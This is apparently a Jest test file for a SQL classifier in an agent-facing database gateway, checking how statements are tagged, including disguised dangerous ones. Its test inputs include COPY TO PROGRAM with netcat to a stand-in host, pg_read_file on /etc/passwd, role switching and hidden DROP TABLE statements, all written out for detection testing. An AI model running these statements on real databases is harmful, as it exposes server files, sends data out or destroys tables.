// Table-driven checks of what the classifier reports for each kind of SQL,
// including the disguises an agent could use to slip a statement past a rule.
import { beforeAll, beforeEach, describe, expect, it, jest } from "@jest/globals";
import type { SqlFacts } from "@portcullis/common/policy/cel";

// parseSync is wrapped (not replaced) so the cache tests can count real parses.
const libpgQuery = await import("libpg-query");
const parseSync = jest.fn(libpgQuery.parseSync);
jest.unstable_mockModule("libpg-query", () => ({ ...libpgQuery, parseSync }));
const { classifySql, initClassifier, MAX_STATEMENT_BYTES } = await import("./classify.js");
const { withStandInTypes } = await import("./plpgsql.js");

beforeAll(async () => {
  await initClassifier();
});

function facts(sql: string): SqlFacts[] {
  const classification = classifySql(sql);
  if (!classification.ok) throw new Error(`expected ${JSON.stringify(sql)} to classify, got: ${classification.error}`);
  return classification.statements;
}

function only(sql: string): SqlFacts {
  const statements = facts(sql);
  expect(statements).toHaveLength(1);
  return statements[0] as SqlFacts;
}

describe("classifySql: the command and object type of every statement kind", () => {
  it.each([
    ["SELECT * FROM orders", "SELECT", ""],
    ["VALUES (1), (2)", "SELECT", ""],
    ["TABLE orders", "SELECT", ""],
    ["SELECT * FROM orders FOR UPDATE", "SELECT", ""],
    ["INSERT INTO orders VALUES (1)", "INSERT", ""],
    ["UPDATE orders SET total = 0 WHERE id = 1", "UPDATE", ""],
    ["DELETE FROM orders WHERE id = 1", "DELETE", ""],
    // MERGE is the strictest of its actions.
    ["MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN DELETE", "DELETE", ""],
    ["MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN DO NOTHING", "MERGE", ""],
    ["COPY orders FROM STDIN", "COPY", ""],
    ["COPY orders TO STDOUT", "COPY", ""],
    ["CREATE TABLE t (id int)", "CREATE", "TABLE"],
    ["CREATE TEMP TABLE t (id int)", "CREATE", "TABLE"],
    ["CREATE TABLE s.t AS SELECT * FROM u", "CREATE", "TABLE"],
    ["SELECT * INTO archive FROM orders", "CREATE", "TABLE"],
    ["CREATE MATERIALIZED VIEW mv AS SELECT 1", "CREATE", "MATERIALIZED VIEW"],
    ["CREATE VIEW v AS SELECT * FROM orders", "CREATE", "VIEW"],
    ["CREATE INDEX i ON orders (id)", "CREATE", "INDEX"],
    ["CREATE SCHEMA billing", "CREATE", "SCHEMA"],
    ["CREATE DATABASE shop", "CREATE", "DATABASE"],
    ["CREATE ROLE bob", "CREATE", "ROLE"],
    ["CREATE USER bob", "CREATE", "ROLE"],
    ["CREATE SEQUENCE s", "CREATE", "SEQUENCE"],
    ["CREATE TYPE mood AS ENUM ('sad', 'ok')", "CREATE", "TYPE"],
    ["CREATE TYPE pair AS (a int, b int)", "CREATE", "TYPE"],
    ["CREATE AGGREGATE agg (int) (sfunc = int4pl, stype = int)", "CREATE", "AGGREGATE"],
    ["CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()", "CREATE", "TRIGGER"],
    ["CREATE POLICY p ON orders USING (true)", "CREATE", "POLICY"],
    ["CREATE FOREIGN TABLE ft (a int) SERVER s", "CREATE", "FOREIGN TABLE"],
    ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "CREATE", "SERVER"],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "CREATE", "FUNCTION"],
    ["CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'", "CREATE", "PROCEDURE"],
    ["ALTER TABLE orders ADD COLUMN note text", "ALTER", "TABLE"],
    ["ALTER TABLE orders RENAME COLUMN note TO remark", "ALTER", "TABLE"],
    ["ALTER TABLE orders RENAME CONSTRAINT a TO b", "ALTER", "TABLE"],
    ["ALTER TABLE orders RENAME TO orders_old", "ALTER", "TABLE"],
    ["ALTER INDEX i RENAME TO j", "ALTER", "INDEX"],
    ["ALTER VIEW v OWNER TO bob", "ALTER", "VIEW"],
    ["ALTER TABLE orders SET SCHEMA archive", "ALTER", "TABLE"],
    ["ALTER ROLE bob SUPERUSER", "ALTER", "ROLE"],
    ["ALTER DATABASE shop SET work_mem = '1GB'", "ALTER", "DATABASE"],
    ["ALTER FUNCTION f() SECURITY DEFINER", "ALTER", "FUNCTION"],
    ["ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", "ALTER", "DEFAULT PRIVILEGES"],
    ["REASSIGN OWNED BY bob TO alice", "ALTER", "OWNED"],
    ["DROP TABLE orders", "DROP", "TABLE"],
    ["DROP DATABASE shop", "DROP", "DATABASE"],
    ["DROP SCHEMA billing CASCADE", "DROP", "SCHEMA"],
    ["DROP ROLE bob", "DROP", "ROLE"],
    ["DROP FUNCTION f(int)", "DROP", "FUNCTION"],
    ["DROP MATERIALIZED VIEW mv", "DROP", "MATERIALIZED VIEW"],
    ["DROP OWNED BY bob", "DROP", "OWNED"],
    ["TRUNCATE orders", "TRUNCATE", "TABLE"],
    ["GRANT SELECT ON orders TO bob", "GRANT", "TABLE"],
    ["REVOKE ALL ON SCHEMA billing FROM bob", "REVOKE", "SCHEMA"],
    ["GRANT admin TO bob", "GRANT", "ROLE"],
    ["REVOKE admin FROM bob", "REVOKE", "ROLE"],
    ["DO $$ BEGIN PERFORM 1; END $$", "DO", ""],
    ["CALL archive_orders(1)", "CALL", ""],
    ["SET search_path = app", "SET", ""],
    ["SET LOCAL statement_timeout = 0", "SET", ""],
    ["RESET ALL", "SET", ""],
    ["SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "SET", ""],
    ["SET CONSTRAINTS ALL DEFERRED", "SET", ""],
    ["SHOW work_mem", "SHOW", ""],
    ["BEGIN", "TRANSACTION", ""],
    ["START TRANSACTION READ ONLY", "TRANSACTION", ""],
    ["COMMIT", "TRANSACTION", ""],
    ["ROLLBACK", "TRANSACTION", ""],
    ["SAVEPOINT a", "TRANSACTION", ""],
    ["RELEASE SAVEPOINT a", "TRANSACTION", ""],
    ["PREPARE TRANSACTION 'x'", "TRANSACTION", ""],
    ["EXPLAIN SELECT * FROM orders", "EXPLAIN", ""],
    ["VACUUM orders", "VACUUM", ""],
    ["VACUUM FULL", "VACUUM", ""],
    ["LOCK orders IN ACCESS EXCLUSIVE MODE", "LOCK", ""],
    ["ANALYZE orders", "UTILITY", ""],
    ["LISTEN jobs", "UTILITY", ""],
    ["NOTIFY jobs", "UTILITY", ""],
    ["DISCARD ALL", "UTILITY", ""],
    ["CHECKPOINT", "UTILITY", ""],
    ["REINDEX TABLE orders", "UTILITY", ""],
    ["CLUSTER orders", "UTILITY", ""],
    ["COMMENT ON TABLE orders IS 'x'", "UTILITY", ""],
    ["DEALLOCATE p", "UTILITY", ""],
    ["FETCH 10 FROM c", "UTILITY", ""],
    ["REFRESH MATERIALIZED VIEW mv", "UTILITY", ""],
    // A cursor runs its query; FETCH then reads what it already chose.
    ["DECLARE c CURSOR FOR SELECT * FROM orders", "SELECT", ""],
    ["CREATE RULE r AS ON DELETE TO orders DO INSTEAD DELETE FROM archive", "CREATE", "RULE"],
  ])("%s → %s %s", (sql, command, objectType) => {
    expect(only(sql)).toMatchObject({ command, objectType });
  });
});

describe("classifySql: tables read and written", () => {
  it.each<[string, string[], string[]]>([
    ["SELECT * FROM orders", ["orders"], []],
    ["select * from Public.Orders", ["public.orders"], []],
    ['SELECT * FROM "Orders", "Billing"."Invoices"', ["Orders", "Billing.Invoices"], []],
    ["SELECT * FROM shop.public.orders", ["public.orders"], []],
    ["SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN s.c ON true", ["a", "b", "s.c"], []],
    ["SELECT * FROM a WHERE id IN (SELECT id FROM b WHERE EXISTS (SELECT 1 FROM c))", ["a", "b", "c"], []],
    ["SELECT (SELECT max(x) FROM b) FROM a", ["b", "a"], []],
    ["SELECT * FROM a UNION SELECT * FROM b EXCEPT SELECT * FROM c", ["a", "b", "c"], []],
    ["SELECT * FROM orders o, LATERAL (SELECT * FROM items i WHERE i.order_id = o.id) x", ["orders", "items"], []],
    ["SELECT * FROM orders o FOR UPDATE OF o", ["orders"], []],
    ["WITH x AS (SELECT * FROM orders) SELECT * FROM x", ["orders"], []],
    // Without RECURSIVE a CTE does not see itself: the inner orders is the table.
    ["WITH orders AS (SELECT * FROM orders) SELECT * FROM orders", ["orders"], []],
    ["WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", [], []],
    ["WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b", ["a"], []],
    ["WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r", [], []],
    // A CTE's name is scoped to its statement; the outer s is a table.
    ["SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) q, s", ["s"], []],
    ["SELECT * FROM public.x WHERE y IN (WITH x AS (SELECT 1) SELECT * FROM x)", ["public.x"], []],
    ["INSERT INTO archive SELECT * FROM orders", ["orders"], ["archive"]],
    ["INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = (SELECT n FROM u)", ["u"], ["t"]],
    ["UPDATE orders SET total = s.total FROM sums s WHERE s.id = orders.id", ["sums"], ["orders"]],
    ["DELETE FROM orders USING customers c WHERE c.id = orders.customer_id", ["customers"], ["orders"]],
    ["MERGE INTO orders o USING staging s ON o.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)", ["staging"], ["orders"]],
    ["COPY orders FROM STDIN", [], ["orders"]],
    ["COPY orders TO STDOUT", ["orders"], []],
    ["COPY (SELECT * FROM orders JOIN items USING (id)) TO STDOUT", ["orders", "items"], []],
    ["CREATE TABLE s.t AS SELECT * FROM u", ["u"], ["s.t"]],
    ["SELECT * INTO archive FROM orders", ["orders"], ["archive"]],
    ["CREATE TABLE t (LIKE orders)", ["orders"], ["t"]],
    ["CREATE VIEW v AS SELECT * FROM orders", ["orders"], ["v"]],
    ["DROP TABLE orders, s.x", [], ["orders", "s.x"]],
    ["DROP VIEW v", [], ["v"]],
    ["DROP INDEX i", [], []],
    ["TRUNCATE orders, items", [], ["orders", "items"]],
    ["ALTER TABLE orders ADD COLUMN note text", [], ["orders"]],
    ["CREATE INDEX i ON orders (id)", [], ["orders"]],
    ["GRANT SELECT ON orders TO bob", [], ["orders"]],
    ["LOCK orders", ["orders"], []],
    ["EXPLAIN DELETE FROM orders", ["orders"], []],
    ["WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", [], ["orders"]],
    ["DECLARE c CURSOR FOR SELECT * FROM orders", ["orders"], []],
    ["CREATE SCHEMA s CREATE TABLE t (id int) CREATE VIEW v AS SELECT * FROM secrets", ["secrets"], ["t", "v"]],
    ["CREATE RULE r AS ON DELETE TO orders DO INSTEAD DELETE FROM archive", [], ["orders", "archive"]],
  ])("%s", (sql, tablesRead, tablesWritten) => {
    const statement = only(sql);
    expect(statement.tablesRead).toEqual(tablesRead);
    expect(statement.tablesWritten).toEqual(tablesWritten);
    expect(new Set(statement.tables)).toEqual(new Set([...tablesRead, ...tablesWritten]));
  });
});

describe("classifySql: WHERE clauses", () => {
  it.each<[string, boolean]>([
    ["DELETE FROM orders", false],
    ["DELETE FROM orders WHERE id = 1", true],
    // A WHERE that filters nothing is no WHERE (rule-semantics.test.ts has the rest).
    ["DELETE FROM orders WHERE true", false],
    ["UPDATE orders SET total = 0", false],
    ["UPDATE orders SET total = 0 WHERE id = 1", true],
    ["UPDATE orders SET total = 0 WHERE CURRENT OF c", true],
    ["SELECT * FROM orders WHERE id = 1", false],
    ["INSERT INTO orders SELECT * FROM staging WHERE ok", false],
    ["WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d WHERE id = 1", false],
    ["WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d", true],
    // One unbounded part makes the whole statement unbounded.
    ["WITH d AS (DELETE FROM orders RETURNING id) UPDATE items SET n = 0 WHERE id = 1", false],
    ["WITH a AS (INSERT INTO log VALUES (1) RETURNING id) DELETE FROM orders WHERE id IN (SELECT id FROM a)", true],
  ])("%s → %s", (sql, hasWhere) => {
    expect(only(sql).hasWhere).toBe(hasWhere);
  });
});

describe("classifySql: functions", () => {
  it.each<[string, string[]]>([
    ["SELECT 1", []],
    ["SELECT lower(name), pg_catalog.now() FROM t", ["lower", "pg_catalog.now"]],
    ['SELECT "Lower"(x), Public.F(y) FROM t', ["lower", "public.f"]],
    ["SELECT count(*) FILTER (WHERE f(x)) OVER (PARTITION BY g(y)) FROM t", ["count", "f", "g"]],
    ["SELECT * FROM generate_series(1, 3)", ["generate_series"]],
    ["SELECT * FROM t WHERE x IN (SELECT h(y) FROM u)", ["h"]],
    ["CREATE TABLE t (id int DEFAULT nextval('s'), CHECK (valid(id)))", ["nextval", "valid"]],
    ["CALL billing.close_month(2024)", ["billing.close_month"]],
    ["EXECUTE p(pg_backend_pid())", ["pg_backend_pid"]],
  ])("%s", (sql, functions) => {
    expect(only(sql).functions).toEqual(functions);
  });
});

describe("classifySql: dangerous tags", () => {
  it.each<[string, string, string[]]>([
    ["DO $$ BEGIN PERFORM 1; END $$", "DO", ["do-block"]],
    ["DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", "DO", ["do-block", "dynamic-sql"]],
    ["DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$", "DO", ["do-block", "dynamic-sql"]],
    ["DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT 1'; END $$", "DO", ["do-block", "dynamic-sql"]],
    ["DO $$ DECLARE x text; BEGIN x := pg_read_file('/etc/passwd'); END $$", "DO", ["do-block", "server-file-function"]],
    ["DO $$ BEGIN IF pg_terminate_backend(1) THEN NULL; END IF; END $$", "DO", ["do-block", "server-control-function"]],
    ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'x'; END $$", "CREATE", ["function-body", "dynamic-sql"]],
    ["CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'x'; END $$", "CREATE", ["function-body", "dynamic-sql"]],
    ["CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/x') $$", "CREATE", ["function-body", "server-file-function"]],
    ["COPY orders FROM PROGRAM 'curl evil'", "COPY", ["copy-program"]],
    ["COPY orders TO PROGRAM 'nc evil 1'", "COPY", ["copy-program"]],
    ["COPY orders TO '/tmp/orders.csv'", "COPY", ["copy-file"]],
    ["COPY orders FROM '/etc/passwd'", "COPY", ["copy-file"]],
    ["COPY orders TO STDOUT", "COPY", []],
    ["SELECT pg_read_file('/etc/passwd')", "SELECT", ["server-file-function"]],
    ["SELECT pg_catalog.pg_read_binary_file('/x')", "SELECT", ["server-file-function"]],
    ["SELECT * FROM pg_ls_dir('.')", "SELECT", ["server-file-function"]],
    ["SELECT lo_import('/etc/passwd')", "SELECT", ["server-file-function"]],
    ["SELECT lo_export(1, '/tmp/x')", "SELECT", ["server-file-function"]],
    ["SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "SELECT", ["server-control-function"]],
    ["SELECT pg_cancel_backend(1)", "SELECT", ["server-control-function"]],
    ["SELECT table_to_xml('customers', true, false, '')", "SELECT", ["dynamic-sql"]],
    ["SELECT database_to_xml(true, false, '')", "SELECT", ["dynamic-sql"]],
    ["SELECT setval('orders_id_seq', 1)", "SELECT", ["state-changing-function"]],
    ["SELECT lo_unlink(16400)", "SELECT", ["state-changing-function"]],
    ["SELECT pg_advisory_lock(1)", "SELECT", ["state-changing-function"]],
    ["SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", "SELECT", ["state-changing-function"]],
    ["SELECT pg_reload_conf()", "SELECT", ["server-control-function"]],
    ["SELECT set_config('role', 'admin', false)", "SELECT", ["server-control-function"]],
    ["SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", "SELECT", ["server-control-function"]],
    ["SELECT query_to_xml('DELETE FROM t', true, true, '')", "SELECT", ["dynamic-sql"]],
    ["WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", "DELETE", ["data-modifying-cte"]],
    ["PREPARE p AS DELETE FROM orders", "DELETE", ["prepare"]],
    ["PREPARE q (int) AS SELECT * FROM orders WHERE id = $1", "SELECT", ["prepare"]],
    ["EXECUTE p", "UTILITY", ["execute-prepared"]],
    ["EXECUTE q(1)", "UTILITY", ["execute-prepared"]],
    ["CREATE TABLE t AS EXECUTE p", "CREATE", ["execute-prepared"]],
    ["ALTER SYSTEM SET work_mem = '1GB'", "ALTER", ["alter-system"]],
    ["SET ROLE admin", "SET", ["set-role"]],
    ["SET LOCAL ROLE admin", "SET", ["set-role"]],
    ["SET SESSION AUTHORIZATION bob", "SET", ["set-role"]],
    ["RESET ROLE", "SET", ["set-role"]],
    ["SET default_transaction_read_only = off", "SET", ["protective-setting"]],
    ["SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "SET", ["protective-setting"]],
    ["SET session_replication_role = replica", "SET", ["protective-setting"]],
    ['SET U&"client\\005fencoding" TO \'LATIN1\'', "SET", ["client-encoding"]],
    ["SET NAMES 'LATIN1'", "SET", ["client-encoding"]],
    ["LOAD 'auto_explain'", "UTILITY", ["load"]],
    ["CREATE EXTENSION dblink", "CREATE", ["create-extension"]],
    ["EXPLAIN ANALYZE DELETE FROM orders", "DELETE", ["explain-analyze"]],
    ["EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0", "UPDATE", ["explain-analyze"]],
    ["EXPLAIN (ANALYZE true) INSERT INTO orders VALUES (1)", "INSERT", ["explain-analyze"]],
    ["EXPLAIN (ANALYZE 1) DELETE FROM orders", "DELETE", ["explain-analyze"]],
    ["EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1", "CREATE", ["explain-analyze"]],
    ["EXPLAIN ANALYZE EXECUTE p", "UTILITY", ["execute-prepared", "explain-analyze"]],
    ["EXPLAIN (ANALYZE false) DELETE FROM orders", "EXPLAIN", []],
    ["EXPLAIN (ANALYZE off) DELETE FROM orders", "EXPLAIN", []],
    ["EXPLAIN (ANALYZE 0) DELETE FROM orders", "EXPLAIN", []],
    ["EXPLAIN ANALYZE SELECT * FROM orders", "EXPLAIN", []],
    ["EXPLAIN DELETE FROM orders", "EXPLAIN", []],
  ])("%s → %s %j", (sql, command, dangerous) => {
    const statement = only(sql);
    expect(statement.command).toBe(command);
    expect([...statement.dangerous].sort()).toEqual([...dangerous].sort());
  });
});

describe("classifySql: code inside statements", () => {
  it("reads the static SQL of a DO block into the statement's tables and functions", () => {
    const statement = only("DO $$ BEGIN DELETE FROM orders; PERFORM lo_export(1, '/tmp/x'); INSERT INTO log SELECT * FROM audit; END $$");
    expect(statement).toMatchObject({ command: "DO", tablesWritten: ["orders", "log"], tablesRead: ["audit"] });
    expect(statement.functions).toEqual(["lo_export"]);
    expect(statement.dangerous).toEqual(expect.arrayContaining(["do-block", "server-file-function"]));
  });

  it("follows a DO block written inside a DO block", () => {
    const statement = only("DO $a$ BEGIN DO $b$ BEGIN EXECUTE 'DROP TABLE orders'; END $b$; END $a$");
    expect(statement.dangerous).toEqual(expect.arrayContaining(["do-block", "dynamic-sql"]));
  });

  it("reads a function subscript in an assignment target", () => {
    expect(only("DO $$ DECLARE a int[]; BEGIN a[pg_backend_pid()] := 1; END $$").functions).toEqual(["pg_backend_pid"]);
  });

  it.each([
    ["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM orders'"],
    ["CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; END"],
    ["CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders; END $$"],
  ])("a function body's writes are the CREATE's, and do not turn it into a DELETE: %s", (sql) => {
    const statement = only(sql);
    expect(statement.command).toBe("CREATE");
    expect(statement.tablesWritten).toEqual(["orders"]);
    expect(statement.hasWhere).toBe(false);
  });

  it.each([
    ["CREATE FUNCTION f(id orders.id%TYPE) RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders WHERE orders.id = id; END $$"],
    ['CREATE FUNCTION f(id public."Orders".id%type, n int) RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders; END $$'],
    ["CREATE FUNCTION f(n int) RETURNS orders.total%TYPE LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders; RETURN 1; END $$"],
    ["CREATE FUNCTION f(n int) RETURNS SETOF orders.id%TYPE LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders; RETURN NEXT 1; END $$"],
    ["CREATE FUNCTION f(n int) RETURNS TABLE (id orders.id%TYPE, total int) LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders; END $$"],
    ["CREATE FUNCTION f() RETURNS SETOF orders LANGUAGE plpgsql AS $$ DECLARE o orders%ROWTYPE; t orders.total%TYPE; BEGIN DELETE FROM orders; RETURN QUERY SELECT * FROM orders; END $$"],
  ])("reads the body of a function whose signature refers to a column's type (%%TYPE): %s", (sql) => {
    const statement = only(sql);
    expect(statement.command).toBe("CREATE");
    expect(statement.tablesWritten).toEqual(["orders"]);
  });

  it("replaces only the signature's %TYPE references for the PL/pgSQL parser, never text inside the body", () => {
    const sql = "CREATE FUNCTION f(a s.t.c%TYPE) RETURNS t.c%TYPE LANGUAGE plpgsql AS $$ DECLARE v t.c%TYPE; BEGIN RETURN v; END $$";
    expect(withStandInTypes(sql)).toBe("CREATE FUNCTION f(a text) RETURNS text LANGUAGE plpgsql AS $$ DECLARE v t.c%TYPE; BEGIN RETURN v; END $$");
  });

  it("COPY of a data-modifying query is the modification it runs", () => {
    expect(only("COPY (DELETE FROM orders RETURNING *) TO STDOUT")).toMatchObject({ command: "DELETE", hasWhere: false, tablesWritten: ["orders"] });
  });
});

describe("classifySql: multi-statement strings, comments and case", () => {
  it("gives one SqlFacts per statement, each with the total count", () => {
    const statements = facts("SELECT 1; DROP TABLE orders");
    expect(statements.map((statement) => [statement.command, statement.statementCount])).toEqual([
      ["SELECT", 2],
      ["DROP", 2],
    ]);
    expect(statements[1]?.tablesWritten).toEqual(["orders"]);
  });

  it("classifies each statement of a transaction block on its own", () => {
    expect(facts("BEGIN; DELETE FROM orders WHERE id = 1; COMMIT").map((statement) => statement.command)).toEqual(["TRANSACTION", "DELETE", "TRANSACTION"]);
  });

  it("cuts statements by bytes, so multi-byte text does not shift a DO block's body", () => {
    const statements = facts("SELECT 'é€😀'; DO $$ BEGIN EXECUTE 'x'; END $$");
    expect(statements[1]?.dangerous).toContain("dynamic-sql");
  });

  it.each([
    ["/* x */ DrOp TaBlE t"],
    ["-- c\nDROP TABLE t"],
    ["DROP/**/TABLE/**/t;"],
    ["  \n\tDROP TABLE t ;  "],
    ["/* a /* nested */ comment */ DROP TABLE t"],
  ])("sees through comments, case and spacing: %j", (sql) => {
    expect(only(sql)).toMatchObject({ command: "DROP", objectType: "TABLE", tablesWritten: ["t"] });
  });

  it("does not mistake SQL inside a string for a statement", () => {
    expect(only("SELECT 'DROP TABLE orders; DELETE FROM t'")).toMatchObject({ command: "SELECT", tables: [] });
  });
});

describe("classifySql: input it cannot or need not classify", () => {
  it.each([[""], ["-- only a comment"], ["/* nothing */"], [";"], ["   ;  ; "]])("%j has no statements", (sql) => {
    expect(facts(sql)).toEqual([]);
  });

  it.each<[string, string]>([
    ["selec 1", 'syntax error at or near "selec"'],
    ["SELECT * FROM", "syntax error at end of input"],
    ["SELECT 1; DROP TABLE", "syntax error at end of input"],
    ["SELECT 1\u0000; DROP TABLE orders", "NUL"],
    ["DO $$ BEGIN EXECUTE 'x' END $$", "PL/pgSQL"],
    ["DO $$ BEGIN x := 1; END $$", "PL/pgSQL"],
    ["DO LANGUAGE plpython3u $$ import os $$", "language plpython3u cannot be inspected"],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELEC 1'", "cannot be parsed"],
    [`SELECT ${"(".repeat(30_000)}1${")".repeat(30_000)}`, ""],
  ])("%j is refused with the reason", (sql, reason) => {
    const classification = classifySql(sql);
    expect(classification.ok).toBe(false);
    if (!classification.ok) expect(classification.error).toContain(reason);
  });

  it("refuses a statement over the size limit without parsing it, and classifies one at the limit", () => {
    const padded = (bytes: number): string => `SELECT 1 /*${"x".repeat(bytes - "SELECT 1 /**/".length)}*/`;
    const calls = parseSync.mock.calls.length;
    expect(classifySql(padded(MAX_STATEMENT_BYTES + 1))).toEqual({
      ok: false,
      error: `the statement is ${MAX_STATEMENT_BYTES + 1} bytes; the gateway classifies statements of up to ${MAX_STATEMENT_BYTES} bytes, so send it in smaller parts`,
    });
    expect(parseSync.mock.calls.length).toBe(calls);
    expect(classifySql(padded(MAX_STATEMENT_BYTES)).ok).toBe(true);
  });

  it("refuses code nested deeper than it follows", () => {
    let sql = "SELECT 1";
    for (let level = 0; level < 10; level++) sql = `DO $l${level}$ BEGIN ${sql}; END $l${level}$`;
    const classification = classifySql(sql);
    expect(classification).toEqual({ ok: false, error: expect.stringContaining("levels deep") });
  });
});

describe("classifySql: fingerprint and summary", () => {
  it("fingerprints the exact text", () => {
    const a = classifySql("DELETE FROM orders WHERE id = 1");
    const b = classifySql("DELETE FROM orders WHERE id = 2");
    const c = classifySql("delete from orders where id = 1");
    if (!a.ok || !b.ok || !c.ok) throw new Error("expected all to classify");
    expect(a.fingerprint).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(a.fingerprint).toBe("sha256:7a36d75aedb0d96ae43b8dd78c042ce30e8dfa1f43442b6412d73343745332df");
    expect(new Set([a.fingerprint, b.fingerprint, c.fingerprint]).size).toBe(3);
  });

  it("summarises without literals and names the tables written", () => {
    const classification = classifySql("UPDATE orders\n   SET note = 'card 4111111111111111'\n WHERE id = 7");
    expect(classification).toMatchObject({ ok: true, summary: "UPDATE orders SET note = $1 WHERE id = $2 (writes orders)" });
  });

  it("keeps a long summary to 200 characters, tables included", () => {
    const classification = classifySql(`INSERT INTO orders SELECT ${Array.from({ length: 100 }, (_, i) => `c${i}`).join(", ")} FROM staging`);
    if (!classification.ok) throw new Error(classification.error);
    expect(classification.summary.length).toBeLessThanOrEqual(200);
    expect(classification.summary).toMatch(/… \(writes orders\)$/);
  });
});

describe("classifySql: the cache", () => {
  beforeEach(() => {
    parseSync.mockClear();
  });

  it("parses a text once and returns the same object after", () => {
    const first = classifySql("SELECT * FROM cache_probe_1");
    const second = classifySql("SELECT * FROM cache_probe_1");
    expect(second).toBe(first);
    expect(parseSync).toHaveBeenCalledTimes(1);
  });

  it("caches refusals too", () => {
    const first = classifySql("SELEC cache_probe_2");
    expect(classifySql("SELEC cache_probe_2")).toBe(first);
    expect(parseSync).toHaveBeenCalledTimes(1);
  });

  it("keys on the exact text", () => {
    classifySql("SELECT * FROM cache_probe_3");
    classifySql("select * from cache_probe_3");
    expect(parseSync).toHaveBeenCalledTimes(2);
  });

  it("is bounded: after 5,000 other texts the first one is parsed again", () => {
    classifySql("SELECT * FROM cache_probe_4");
    // Texts without constants: texts that differ only in theirs share one classification of their form (classify-forms.test.ts).
    for (let i = 0; i < 5000; i++) classifySql(`SELECT * FROM cache_fill_${i}`);
    parseSync.mockClear();
    classifySql("SELECT * FROM cache_probe_4");
    expect(parseSync).toHaveBeenCalledTimes(1);
  });

  it("does not keep very long texts", () => {
    const long = `SELECT ${"1 + ".repeat(3000)}1`;
    classifySql(long);
    classifySql(long);
    expect(parseSync).toHaveBeenCalledTimes(2);
  });
});
